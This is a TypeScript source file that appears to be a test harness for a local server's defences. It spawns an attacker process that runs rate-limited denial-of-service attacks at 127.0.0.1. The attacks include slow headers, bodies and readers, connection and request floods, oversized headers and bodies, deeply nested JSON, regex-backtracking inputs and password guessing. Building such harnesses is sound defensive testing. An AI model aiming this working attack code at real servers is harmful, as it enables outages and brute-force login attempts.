import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { isAttack, type Aim, type Attack } from './attacks.ts';

/**
 * An attacker in a separate process: `attacker.ts KINDS AIM`, both as JSON. It runs the attacks while it is switched on. Each
 * attack has a rate, so that it costs the server's time and not the whole machine's.
 */

const [, , kinds = '', aimJson = ''] = process.argv;
const aim = JSON.parse(aimJson) as Aim;

/** Set by messages of the parent process. */
let isOn = false;
process.on('message', (on: boolean) => {
  isOn = on;
});
process.on('disconnect', () => process.exit(0));

/** Calls `work` at a rate of `full` times `aim.strength` per second, in small bursts. */
const atRate = (full: number, work: () => void): void => {
  const perSecond = full * aim.strength;
  const everyMs = Math.max(10, 1000 / perSecond);
  let due = 0;
  setInterval(() => {
    if (!isOn) return;
    due += (perSecond * everyMs) / 1000;
    for (; due >= 1; due -= 1) work();
  }, everyMs);
};

const openSocket = (): Socket => {
  const socket = connect({ port: aim.port, host: '127.0.0.1', localAddress: aim.from });
  // The server may evict an attacker at any time.
  socket.on('error', () => undefined);
  return socket;
};

/** Holds `limit` connections while the attack is on. Evicted ones reconnect, at most `perSecond` per second. */
const hold = (limit: number, perSecond: number, work: (socket: Socket) => void): void => {
  let open = 0;
  atRate(perSecond, () => {
    if (open >= limit) return;
    open += 1;
    const socket = openSocket();
    socket.once('close', () => (open -= 1));
    socket.once('connect', () => work(socket));
  });
};

const drip = (socket: Socket, start: string, chunk: string, everyMs: number): void => {
  socket.write(start);
  socket.resume();
  const timer = setInterval(() => socket.write(chunk), everyMs);
  socket.once('close', () => clearInterval(timer));
};

const head = (method: string, path: string, extraHeaders: readonly string[] = []): string =>
  [`${method} ${path} HTTP/1.1`, `host: ${aim.host}`, ...extraHeaders, '', ''].join('\r\n');

const agent = new Agent({ keepAlive: true, maxSockets: 20, localAddress: aim.from });

/** Sends one complete request and discards the response. */
const call = (method: string, path: string, headers: Record<string, string>, body?: string | Buffer): void => {
  const outgoing = request(
    { host: '127.0.0.1', port: aim.port, agent, method, path, headers: { host: aim.host, ...headers } },
    (incoming) => incoming.on('error', () => undefined).resume(),
  );
  outgoing.on('error', () => undefined);
  outgoing.end(body);
};

const json = { 'content-type': 'application/json' };
const strength = '/api/v2.6/owner/password-strength';
const large = (start: string, fill: string, end: string): string =>
  `${start}${fill.repeat(Math.floor((9_900_000 - start.length - end.length) / fill.length))}${end}`;

const ATTACKS: Record<Attack, () => void> = {
  'slow headers': () =>
    hold(1500, 1000, (socket) => drip(socket, `GET / HTTP/1.1\r\nhost: ${aim.host}\r\n`, 'x-a: b\r\n', 500)),
  'slow bodies': () =>
    hold(1000, 1000, (socket) =>
      drip(socket, head('POST', strength, ['content-type: application/json', 'content-length: 60000']), ' ', 500),
    ),
  'slow readers': () =>
    hold(600, 600, (socket) => {
      socket.write(head('GET', aim.file));
      // Reads just enough to look alive.
      socket.pause();
      const timer = setInterval(() => socket.read(100), 200);
      socket.once('close', () => clearInterval(timer));
    }),
  'many connections': () => atRate(800, () => openSocket().resume()),
  'many requests': () => {
    const sockets = Array.from({ length: 20 }, () => openSocket().resume());
    const several = head('GET', '/api/v2.6/owner/sign-in-ways').repeat(20);
    atRate(300, () => {
      const index = Math.floor(Math.random() * sockets.length);
      if (sockets[index]?.destroyed !== false) sockets[index] = openSocket().resume();
      sockets[index].write(several);
    });
  },
  'huge headers': () => atRate(300, () => call('GET', '/healthz', { 'x-filling': 'x'.repeat(30_000) })),
  'big bodies': () => {
    const body = large('{"password":"', 'x', '"}');
    atRate(12, () => call('POST', strength, json, body));
  },
  'big bodies without a token': () => {
    const body = large('{"password":"', 'x', '"}');
    atRate(12, () => call('POST', '/api/v2.6/contract-data/read/a/b', json, body));
  },
  'deep bodies': () => {
    const body = '['.repeat(4_900_000) + ']'.repeat(4_900_000);
    atRate(12, () => call('POST', strength, json, body));
  },
  'many parameters': () => {
    const query = Array.from({ length: 1600 }, (_, index) => `p${index}=`).join('&');
    atRate(300, () => call('GET', `/storage/x?${query}`, {}));
  },
  'slow regular expressions': () => {
    const path = `/api/v2.6/data/${'a'.repeat(1000)}${'/a'.repeat(3000)}!`;
    atRate(150, () => call('GET', path, {}));
    atRate(150, () =>
      call('POST', strength, {
        'content-type': `application/${'a.'.repeat(5000)}`,
        range: `bytes=${'0'.repeat(5000)}x`,
      }),
    );
  },
  passwords: () => {
    let index = 0;
    atRate(100, () => {
      index += 1;
      call('GET', '/users/access_token', { username: `name${index}`, password: `guess${index}` });
    });
  },
};

for (const kind of JSON.parse(kinds) as string[]) {
  if (!isAttack(kind)) throw new Error(`unknown attack "${kind}"`);
  ATTACKS[kind]();
}
